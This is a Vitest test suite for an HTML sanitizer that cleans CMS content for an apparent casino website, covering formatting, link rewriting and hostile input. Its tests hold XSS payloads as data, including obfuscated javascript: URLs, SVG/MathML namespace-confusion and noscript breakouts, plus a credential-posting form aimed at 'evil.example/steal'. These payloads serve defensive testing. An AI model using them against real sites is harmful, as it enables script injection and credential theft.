// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeCmsHtml } from './cms-sanitizer';

/** The sanitised HTML as a string, to assert on what would reach the page. */
function clean(html: string, language: 'en' | 'de' = 'en'): string {
  const holder = document.createElement('div');
  holder.append(sanitizeCmsHtml(html, { language, newTabLabel: '(opens in a new tab)' }));
  return holder.innerHTML;
}

function parsed(html: string): HTMLElement {
  const holder = document.createElement('div');
  holder.append(sanitizeCmsHtml(html, { language: 'en', newTabLabel: '(opens in a new tab)' }));
  return holder;
}

describe('sanitizeCmsHtml: formatting survives', () => {
  it('keeps headings, paragraphs, lists, tables and the help sections', () => {
    const html =
      '<h2 id="general">1. General</h2><p>Text with <strong>bold</strong> and <em>emphasis</em>.</p>' +
      '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>' +
      '<table><thead><tr><th scope="col">Name</th></tr></thead><tbody><tr><td colspan="2">cookieConfirmed</td></tr></tbody></table>' +
      '<address>Level 3, Gżira</address>' +
      '<details id="deposits"><summary>How do I deposit?</summary><div><p>Open the cashier.</p></div></details>';
    expect(clean(html)).toBe(html);
  });

  it('turns an h1 into an h2 (the page title is the only h1)', () => {
    expect(clean('<h1 id="top">Terms</h1>')).toBe('<h2 id="top">Terms</h2>');
  });
});

describe('sanitizeCmsHtml: hostile input', () => {
  it('removes scripts, styles, frames and embedded objects', () => {
    const out = clean(
      '<p>ok</p><script>alert(1)</script><style>body{display:none}</style>' +
        '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">' +
        '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">' +
        '<base href="https://evil.example/"><template><script>alert(1)</script></template>',
    );
    expect(out).toBe('<p>ok</p>');
  });

  it('removes event handlers', () => {
    const out = clean(
      '<img src="https://cdn.example/a.png" onerror="alert(1)"><p onclick="alert(1)" onmouseover="alert(2)">hi</p>' +
        '<details id="x" ontoggle="alert(1)" open><summary>s</summary></details><a href="/help" onfocus="alert(1)">help</a>',
    );
    expect(out).not.toMatch(/on\w+=/i);
    expect(out).not.toContain('alert');
    // `open` is the element's to manage, not the content's.
    expect(out).toContain('<details id="x"><summary>s</summary></details>');
  });

  it('drops an image whose src is not http(s) or root-relative, and the onerror with it', () => {
    expect(clean('<img src=x onerror=alert(1)>')).toBe('');
    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">')).toBe('');
    expect(clean('<img src="javascript:alert(1)">')).toBe('');
  });

  it('keeps safe images as decoration unless described', () => {
    const root = parsed('<img src="/media/a.png"><img src="https://cdn.example/b.png" alt="Licence seal">');
    const [first, second] = Array.from(root.querySelectorAll('img'));
    expect(first?.getAttribute('alt')).toBe('');
    expect(first?.getAttribute('src')).toBe('/media/a.png');
    expect(second?.getAttribute('alt')).toBe('Licence seal');
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java&#x09;script:alert(1)',
    '&#106;avascript:alert(1)',
    'javascript&colon;alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    '//evil.example/login',
    '/\\evil.example/login',
    'privacy',
    '../privacy',
  ])('turns a link to %s into plain text', (href) => {
    const out = clean(`<p><a href="${href}">click</a></p>`);
    expect(out).toBe('<p>click</p>');
  });

  it('removes SVG and MathML, including the namespace-confusion tricks', () => {
    const payloads = [
      '<svg onload="alert(1)"><circle r="5"></circle></svg>',
      '<svg><script>alert(1)</script></svg>',
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
      '<svg><foreignObject><img src="https://x/y.png" onerror="alert(1)"></foreignObject></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ];
    for (const payload of payloads) {
      const out = clean(payload);
      expect(out, payload).not.toMatch(/<svg|<math|<script|<style|onerror|onload|javascript:/i);
    }
  });

  it('removes style, class, part, data-* and aria-* attributes', () => {
    const out = clean(
      '<p style="background:url(javascript:alert(1))" class="casino-root" part="title" data-x="1" aria-hidden="true" slot="s" id="keep">text</p>',
    );
    expect(out).toBe('<p id="keep">text</p>');
  });

  it('removes forms and their controls, keeping only their text', () => {
    const out = clean(
      '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="password"></label>' +
        '<select><option>a</option></select><textarea>t</textarea><button formaction="https://evil.example">Send</button></form>',
    );
    expect(out).not.toMatch(/<form|<input|<button|<select|<textarea|action=/i);
  });

  it('removes the tags the allow-list does not name', () => {
    expect(clean('<marquee>m</marquee><blink>b</blink><custom-el>c</custom-el><dialog open>d</dialog>')).toBe('mbcd');
  });
});

describe('sanitizeCmsHtml: links', () => {
  it('opens external links in a new tab, without opener or referrer, and says so', () => {
    const root = parsed('<a href="https://www.mga.org.mt" target="_self">www.mga.org.mt</a>');
    const link = root.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://www.mga.org.mt/');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link.textContent).toBe('www.mga.org.mt (opens in a new tab)');
    expect(link.querySelector('.casino-visually-hidden')).not.toBeNull();
  });

  it('gives the site’s own links the language prefix', () => {
    const root = parsed('<a href="/privacy">a</a><a href="/">b</a><a href="/help#deposits">c</a><a href="/de/imprint">d</a><a href="/cookies?x=1">e</a>');
    expect(Array.from(root.querySelectorAll('a'), (a) => a.getAttribute('href'))).toEqual([
      '/en/privacy',
      '/en/',
      '/en/help#deposits',
      '/de/imprint',
      '/en/cookies?x=1',
    ]);
    expect(root.querySelector('a')!.hasAttribute('target')).toBe(false);
    expect(clean('<a href="/privacy">p</a>', 'de')).toBe('<a href="/de/privacy">p</a>');
  });

  it('keeps mailto:, tel: and same-page fragments as they are', () => {
    expect(clean('<a href="mailto:support@casino.example">m</a><a href="tel:+35620990000">t</a><a href="#withdrawals">w</a>')).toBe(
      '<a href="mailto:support@casino.example">m</a><a href="tel:+35620990000">t</a><a href="#withdrawals">w</a>',
    );
  });
});
